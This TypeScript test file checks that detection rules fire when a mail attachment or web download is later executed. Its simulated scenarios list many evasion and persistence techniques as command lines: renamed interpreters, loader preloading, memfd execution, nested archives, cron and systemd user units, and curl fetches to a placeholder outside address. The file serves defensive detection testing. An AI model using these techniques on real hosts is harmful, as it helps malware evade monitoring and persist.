import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { AnalyticId } from '../events/vocabulary.ts';
import type { Process } from './an0656-phishing-attachment-executed/audit-records.test-support.ts';
import { DAY, HostLog, MINUTE, SECOND } from './an0656-phishing-attachment-executed/host-log.test-support.ts';
import { firesAt, scanLog } from './an0656-phishing-attachment-executed/stories.test-support.ts';

/** Ways around AN0656 and AN0321 of which there is no recording: each must alert, come by mail or from the web. */
const OUT = '203.0.113.66';
/** A name that says nothing of what it is. */
const FILE = '/home/clerk/Documents/agenda.dat';

type Act = (log: HostLog, shell: Process) => void;

function arrived(by: 'mail' | 'web'): { log: HostLog; shell: Process } {
  const log = new HostLog();
  if (by === 'mail') {
    const message = log.deliver();
    log.wait(MINUTE);
    const client = log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird').read(message.path);
    client.write(`${FILE}.part`).rename(`${FILE}.part`, FILE);
  } else {
    const browser = log.desktop('clerk').run('/usr/lib/firefox/firefox').connect('203.0.113.80', 443);
    browser.write(`${FILE}.part`).rename(`${FILE}.part`, FILE);
  }
  log.wait(MINUTE);
  return { log, shell: log.shell('clerk') };
}

const fetches = (process: Process): void => void process.run('/usr/bin/curl http://x/y').connect(OUT, 80);
const executable = (shell: Process, path: string): void => void shell.run(`/bin/chmod 755 ${path}`).chmod(path, 0o755);

const RENAMED: Readonly<Record<string, Act>> = {
  'an interpreter copied to another name': (_, shell) => {
    shell.run('/bin/cp /usr/bin/python3 .cache/pd').read('/usr/bin/python3').write('/home/clerk/.cache/pd');
    shell.run(`/home/clerk/.cache/pd ${FILE}`).read(FILE).connect(OUT, 443);
  },
  'a copy of a shell that was renamed once more': (_, shell) => {
    shell.run('/bin/dd if=/bin/dash of=/tmp/a').write('/tmp/a').rename('/tmp/a', '/tmp/.b');
    fetches(shell.run(`/tmp/.b ${FILE}`).read(FILE));
  },
  'a hard link of a shell, of which only the command tells': (_, shell) => {
    shell.run('/bin/ln /bin/dash /home/clerk/d');
    fetches(shell.run(`/home/clerk/d ${FILE}`).read(FILE));
  },
  'a symbolic link to an interpreter': (_, shell) => {
    shell.run(`/home/clerk/.cache/pd ${FILE}`, { exe: '/usr/bin/perl' }).read(FILE).connect(OUT, 443);
  },
  // busybox runs nothing under a name that it does not know (applets/appletlib.c): it has to be called as a shell.
  'busybox called as its shell': (_, shell) => {
    shell.run(`/usr/local/bin/q ${FILE}`, { exe: '/bin/busybox', argv0: 'ash' }).read(FILE).connect(OUT, 80);
  },
};

const FED: Readonly<Record<string, Act>> = {
  'standard input from the file': (_, shell) => {
    fetches(shell.fork().read(FILE).exec('/bin/sh'));
  },
  'standard input from a decoder': (_, shell) => {
    const [decoder, python] = shell.pipeline(`/usr/bin/openssl enc -d -aes256 -in ${FILE}`, '/usr/bin/python3 -');
    decoder?.read(FILE);
    python?.connect(OUT, 443);
  },
  'a short program that evaluates the file': (_, shell) => {
    shell
      .run(['/usr/bin/python3', '-c', `exec(open('${FILE}').read())`])
      .read(FILE)
      .connect(OUT, 443);
  },
  'a command line that sources it': (_, shell) => {
    fetches(shell.run(['/bin/bash', '-c', `cd /tmp; . ${FILE}`]).read(FILE));
  },
  'a short program that requires it': (_, shell) => {
    shell
      .run(['/usr/bin/node', '-e', `require("${FILE}")`])
      .read(FILE)
      .connect(OUT, 443);
  },
  'a short program that does it': (_, shell) => {
    shell.run(['/usr/bin/perl', '-e', 'do "./Documents/agenda.dat"']).read(FILE).connect(OUT, 443);
  },
};

const MEMORY: Readonly<Record<string, Act>> = {
  'the loader with a library path, three days later': (log, shell) => {
    log.wait(3 * DAY);
    const exe = '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2';
    shell.run(`/lib64/ld-linux-x86-64.so.2 --library-path /tmp ${FILE}`, { exe }).read(FILE).connect(OUT, 443);
  },
  'a library that the loader is told to load before': (_, shell) => {
    const exe = '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2';
    shell.run(`/lib64/ld-linux-x86-64.so.2 --preload ${FILE} /bin/true`, { exe }).read(FILE).connect(OUT, 443);
  },
  'a memory file of another process, filled with dd': (_, shell) => {
    shell.run(`/bin/dd if=${FILE} of=/proc/4242/fd/3`).read(FILE).write('/proc/4242/fd/3');
    shell.run(['/proc/4242/fd/3'], { exe: '/memfd:a (deleted)' }).connect(OUT, 443);
  },
  'its own open file': (_, shell) => {
    const perl = shell.run(['/usr/bin/perl', '-e', 'syscall 319']).read(FILE);
    perl.exec(['/proc/self/fd/4'], { exe: '/memfd:x (deleted)' }).connect(OUT, 443);
  },
};

const ARCHIVES: Readonly<Record<string, Act>> = {
  'three archives in each other': (_, shell) => {
    shell.run(`/usr/bin/7z x ${FILE}`).read(FILE).write('/home/clerk/a/b.zip');
    shell.run('/usr/bin/unzip a/b.zip').read('/home/clerk/a/b.zip').write('/home/clerk/a/c.tar');
    shell.run('/bin/tar xf a/c.tar').read('/home/clerk/a/c.tar').write('/home/clerk/a/d');
    executable(shell, '/home/clerk/a/d');
    shell.run('/home/clerk/a/d').connect(OUT, 443);
  },
  'a package that is only unpacked': (_, shell) => {
    const dpkg = shell.run(`/usr/bin/dpkg -x ${FILE} x`).run(`/usr/bin/dpkg-deb -x ${FILE} x`);
    dpkg.read(FILE).write('/home/clerk/x/usr/bin/a');
    shell.run('/home/clerk/x/usr/bin/a').connect(OUT, 443);
  },
  'a source package that pip installs': (_, shell) => {
    const pip = shell.run(`/usr/bin/pip3 install ${FILE}`, { by: '/usr/bin/python3' }).read(FILE);
    pip.run(['/usr/bin/python3', '-c', 'setup']).connect(OUT, 443);
  },
};

const STEPPING: Readonly<Record<string, Act>> = {
  'setsid, after its shell has ended': (_, shell) => {
    executable(shell, FILE);
    shell.run(`/usr/bin/setsid -f ${FILE}`).fork().orphan().exec([FILE]).connect(OUT, 443);
  },
  "the user's service manager, by systemd-run": (log, shell) => {
    executable(shell, FILE);
    shell.run(`/usr/bin/systemd-run --user ${FILE}`);
    log.wait(2 * SECOND);
    log.desktop('clerk').run('/usr/lib/systemd/systemd --user').run([FILE]).connect(OUT, 443);
  },
  'a copy that a user unit starts the next day': (log, shell) => {
    const copy = '/home/clerk/.local/bin/upd';
    shell.run(`/bin/cp ${FILE} ${copy}`).read(FILE).write(copy);
    executable(shell, copy);
    shell.run('/usr/bin/vi u').write('/home/clerk/.config/systemd/user/upd.service');
    log.wait(DAY);
    log.desktop('clerk').run('/usr/lib/systemd/systemd --user').run([copy]).connect(OUT, 443);
  },
  'a crontab that feeds it to a shell five days later': (log, shell) => {
    shell.run('/usr/bin/crontab -').write('/var/spool/cron/crontabs/clerk');
    log.wait(5 * DAY);
    fetches(log.cron('clerk', `sh ${FILE}`).run(`/bin/sh ${FILE}`).read(FILE));
  },
  'another user, from a shared folder, a day later': (log, shell) => {
    shell.run(`/bin/cp ${FILE} /srv/share/tool`).read(FILE).write('/srv/share/tool');
    log.wait(DAY);
    fetches(log.shell('dev').run('/bin/bash /srv/share/tool').read('/srv/share/tool'));
  },
  'a container into which the home is mounted': (log, shell) => {
    const shim = log.service('/usr/bin/containerd-shim-runc-v2');
    shell.records.move(FILE, '/h/agenda.dat');
    fetches(shim.run('/bin/sh /h/agenda.dat').read('/h/agenda.dat'));
  },
  'another file system': (_, shell) => {
    shell.run(`/bin/mv ${FILE} /mnt/usb/a`).read(FILE).write('/mnt/usb/a');
    fetches(shell.run('/bin/sh /mnt/usb/a').read('/mnt/usb/a'));
  },
  'a terminal that a program made': (_, shell) => {
    const server = shell.run('/usr/bin/tmux new -d').orphan();
    server.who = { ...server.who, tty: 'pts9' };
    fetches(server.run(['/bin/bash'], { argv0: '-bash' }).run(`/bin/sh ${FILE}`).read(FILE));
  },
};

for (const [group, acts] of Object.entries({ RENAMED, FED, MEMORY, ARCHIVES, STEPPING }))
  for (const [says, act] of Object.entries(acts))
    for (const [by, analytic] of [
      ['mail', 'AN0656'],
      ['web', 'AN0321'],
    ] as const satisfies readonly (readonly ['mail' | 'web', AnalyticId])[])
      test(`${group.toLowerCase()}: what came by ${by} is run by ${says}`, async () => {
        const { log, shell } = arrived(by);
        act(log, shell);
        firesAt(await scanLog(log), analytic, 'medium');
      });

const BY_NAME: Readonly<Record<string, Act>> = {
  'a pipeline from where downloads lie': (_, shell) => void shell.pipeline('/bin/cat Downloads/tool', '/bin/sh'),
  'a copy in another place': (_, shell) => {
    shell.run('/bin/cp Downloads/tool /var/tmp/.t');
    shell.run('/bin/sh /var/tmp/.t');
  },
  'a file moved to a folder': (_, shell) => {
    shell.run('/bin/mv Downloads/tool bin');
    shell.run('./bin/tool');
  },
};
for (const [says, act] of Object.entries(BY_NAME))
  test(`where only programs are recorded, an attachment is run by ${says}: low, as only the place ties it to the message`, async () => {
    const log = new HostLog({ files: false, network: false });
    log.deliver();
    log.desktop('clerk').run('/usr/lib/thunderbird/thunderbird');
    log.wait(MINUTE);
    act(log, log.shell('clerk'));
    firesAt(await scanLog(log), 'AN0656', 'low');
  });

test('where only programs are recorded, a downloaded program that sudo or a messenger user runs is tied to who logged in', async () => {
  const log = new HostLog({ files: false, network: false });
  log.desktop('clerk').run('/usr/bin/telegram-desktop');
  log.wait(MINUTE);
  const shell = log.shell('clerk');
  shell.run('/bin/chmod +x Downloads/photo');
  const sudo = shell.run('/usr/bin/sudo Downloads/photo', { who: { ...shell.who, uid: 0 } });
  sudo.run('/home/clerk/Downloads/photo');
  const alert = firesAt(await scanLog(log), 'AN0321', 'low');
  assert.ok(alert.factors.some(factor => factor.name === 'made executable by hand'));
});
